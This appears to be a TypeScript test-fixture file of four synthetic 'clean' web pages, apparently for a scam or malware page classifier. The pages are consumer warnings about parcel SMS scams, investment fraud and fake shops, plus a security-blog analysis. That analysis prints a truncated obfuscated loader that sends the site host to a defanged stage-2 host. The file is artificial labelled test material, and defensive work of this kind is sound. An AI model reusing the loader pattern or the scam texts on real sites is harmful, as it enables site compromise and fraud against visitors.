import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { jsRoute } from '../parts/e-bin.js';
import { baseCss, cookieBar, dataLayer, doc, footer, pixelStub } from '../parts/g-kit.js';

const artCss = `${baseCss} .a{max-width:760px;margin:0 auto;padding:20px}.a h1{font-size:32px;line-height:1.2}.by{color:#666;font-size:13px}blockquote{border-left:4px solid #999;margin:16px 0;padding:8px 14px;background:#f7f7f7;font-style:italic}.rel{border-top:1px solid #ddd;margin-top:30px;padding-top:10px;font-size:14px}`;
export const entries: Entry[] = [
  // Polish CERT-style article about parcel SMS scams, quoting messages
  {
    id: 'g-clean-pl-cert-ostrzezenie-sms-paczka-doplata',
    label: 'clean',
    kind: 'consumer-alert',
    url: 'https://cert.pl/posts/2025/11/oszustwa-na-doplate-do-paczki/',
    body: doc({
      lang: 'pl',
      title: 'Oszustwa „na dopłatę do paczki” – jak je rozpoznać | CERT Polska',
      css: `${artCss} .sms{background:#e5f0ff;border-radius:14px;padding:10px 14px;max-width:420px;font-family:Arial;font-style:normal}`,
      body: `<header class="top"><div class="wrap"><b style="color:#c8102e">CERT Polska</b><nav><a href="#">Aktualności</a><a href="#">Publikacje</a><a href="#">Zgłoś incydent</a></nav></div></header>
<div class="a"><p class="by">28 listopada 2025 · Zespół CERT Polska</p><h1>Oszustwa „na dopłatę do paczki” – jak je rozpoznać</h1><p>W okresie przedświątecznym obserwujemy wzmożoną liczbę wiadomości SMS podszywających się pod firmy kurierskie. Przykładowe treści:</p>
<blockquote class="sms">InPost: Twoja przesyłka została wstrzymana z powodu niepełnego adresu. Dokonaj dopłaty 1,99 zł: hxxps://inpost-dostawa[.]info/pl</blockquote><blockquote class="sms">Poczta Polska: paczka czeka w magazynie. Opłać cło 3,49 zł w ciągu 24h, inaczej zostanie zwrócona.</blockquote>
<p>Strona, do której prowadzi link, wygląda jak bramka płatności i wyłudza dane karty lub dane logowania do bankowości. W ostatnich tygodniach zablokowaliśmy ponad 2 300 takich domen. Listę ostrzeżeń publikujemy na hole.cert.pl.</p><h2>Jak się chronić?</h2><ul><li>Sprawdzaj status przesyłki wyłącznie w oficjalnej aplikacji lub na stronie przewoźnika.</li><li>Nie klikaj linków w SMS-ach o „dopłacie”.</li><li>Podejrzane SMS-y przesyłaj bezpłatnie na numer 8080.</li></ul></div>
${footer({ 'CERT Polska': ['O nas', 'Kontakt', 'NASK'] }, '© 2025 NASK – Państwowy Instytut Badawczy')}`,
    }),
  },
  // Japanese article on SNS investment fraud quoting LINE group pitch
  {
    id: 'g-clean-ja-kiji-sns-gata-toushi-sagi',
    label: 'clean',
    kind: 'news-scam',
    url: 'https://news.hokuriku-shimbun.jp/articles/2025/11/27/sns-toushi-sagi-chuui',
    body: doc({
      lang: 'ja',
      title: '「著名人が無料で株を教える」SNS型投資詐欺、被害急増　県警が注意呼びかけ｜北陸新聞',
      css: artCss,
      body: `<header class="top"><div class="wrap"><b style="font-size:22px">北陸新聞</b><nav><a href="#">社会</a><a href="#">経済</a><a href="#">スポーツ</a></nav></div></header>
<div class="a"><p class="by">2025年11月27日 18:02</p><h1>「著名人が無料で株を教える」SNS型投資詐欺、被害急増　県警が注意呼びかけ</h1><p>県警によると、今年1月から10月までのSNS型投資詐欺の被害は86件、総額約14億円にのぼった。多くはSNS広告から「元証券アナリストが毎日の注目銘柄を完全無料で配信」などとうたうLINEグループに誘導される手口だという。</p>
<blockquote>「参加者の94%が3ヶ月で資産2倍を達成」「アシスタントが個別にサポートします」</blockquote><p>グループ内で「アシスタント」を名乗る人物から専用の取引アプリや投資サイトに登録するよう勧められ、指定された個人名義の口座に振り込むと、画面上では利益が出ているように表示される。出金しようとすると「税金」や「手数料」名目で追加の入金を求められる。</p><p>県警は「著名人が無料で投資を教えることはない。少しでも怪しいと思ったら#9110に相談を」と話している。</p></div>`,
    }),
  },
  // German consumer-centre article about fake shops quoting a closing-down sale
  {
    id: 'g-clean-de-verbraucherzentrale-fakeshop-merkmale',
    label: 'clean',
    kind: 'consumer-alert',
    url: 'https://www.verbraucherzentrale.de/wissen/digitale-welt/onlinehandel/fakeshops-erkennen-raeumungsverkauf',
    body: doc({
      lang: 'de',
      title: 'Fakeshops erkennen: Vorsicht bei „Räumungsverkauf“ und Vorkasse | Verbraucherzentrale.de',
      css: artCss,
      body: `<header class="top"><div class="wrap"><b style="color:#0064a8">verbraucherzentrale</b><nav><a href="#">Geld &amp; Versicherungen</a><a href="#">Digitale Welt</a><a href="#">Energie</a></nav></div></header>
<div class="a"><p class="by">Stand: 27.11.2025</p><h1>Fakeshops erkennen: Vorsicht bei „Räumungsverkauf“ und Vorkasse</h1><p>Gerade vor Weihnachten tauchen viele gefälschte Onlineshops auf. Häufig locken sie mit einer angeblichen Geschäftsaufgabe:</p><blockquote>„GESCHÄFTSAUFGABE – ALLES MUSS RAUS! Bis zu 80 % auf alle Gartenmöbel. Aufgrund der Geschäftsaufgabe können wir ausschließlich Vorkasse per Überweisung anbieten.“</blockquote>
<h2>Typische Merkmale</h2><ul><li>Preise deutlich unter dem Marktniveau</li><li>Am Ende des Bestellprozesses nur Vorkasse möglich, oft auf ein ausländisches Konto (z. B. IBAN mit LT, GB oder ES)</li><li>Fehlendes oder kopiertes Impressum</li><li>Gefälschte Gütesiegel</li></ul><p>Prüfen Sie verdächtige Shops vor dem Kauf mit unserem <a href="/fakeshopfinder">Fakeshop-Finder</a>. Haben Sie bereits bezahlt, kontaktieren Sie sofort Ihre Bank und erstatten Sie Anzeige.</p></div>
${cookieBar('Wir nutzen Cookies für die Reichweitenmessung.', 'Zustimmen')}`,
    }),
  },
  // English security research blog post about fake update injections, with defanged code
  {
    id: 'g-clean-en-security-blog-fake-update-injection-analysis',
    label: 'clean',
    kind: 'security-research',
    url: 'https://blog.threatlantern.io/2025/11/wordpress-fake-chrome-update-injection-analysis',
    body: doc({
      lang: 'en',
      title: 'Analysis: fake Chrome update injected via jquery-migrate on compromised WordPress sites | ThreatLantern Blog',
      css: `${artCss} pre{background:#0f172a;color:#e2e8f0;padding:12px;overflow:auto;font-size:12px;border-radius:6px}table{border-collapse:collapse}td{border:1px solid #ddd;padding:4px 8px;font-family:monospace;font-size:12px}`,
      body: `<header class="top"><div class="wrap"><b>ThreatLantern Blog</b><nav><a href="#">Research</a><a href="#">Detections</a><a href="#">About</a></nav></div></header>
<div class="a"><p class="by">November 24, 2025 · Research team</p><h1>Fake Chrome update injected via a tampered jquery-migrate on compromised WordPress sites</h1>
<p>We identified over 1,100 WordPress sites where <code>wp-includes/js/jquery/jquery-migrate.min.js</code> had a short loader appended. The loader base64-decodes a URL and injects a second-stage script that draws a full-page “An error occurred in Chrome” overlay with an <b>Update Chrome</b> button.</p>
<pre>var _0x1a=['\\x63\\x72\\x65\\x61\\x74\\x65...'];
s.src = atob('aHR0cHM6Ly9jZG4u...') + encodeURIComponent(location.host);
// decoded: hxxps://cdn.wpstatic-content[.]net/report?v=3&amp;r=</pre>
<p>The download is <code>Chrome.Update.zip</code> containing a JScript file that uses <code>WScript.Shell</code> and <code>MSXML2.XMLHTTP</code> to fetch the next stage.</p><h3>Indicators</h3><table><tr><td>cdn.wpstatic-content[.]net</td><td>stage-2 host</td></tr><tr><td>Chrome.Update.zip</td><td>SHA256 5f1c…a9</td></tr><tr><td>_wp_upd cookie</td><td>shown-once flag</td></tr></table>
<p>Site owners should replace core files from a clean WordPress package and rotate admin credentials.</p></div>`,
    }),
  },
];

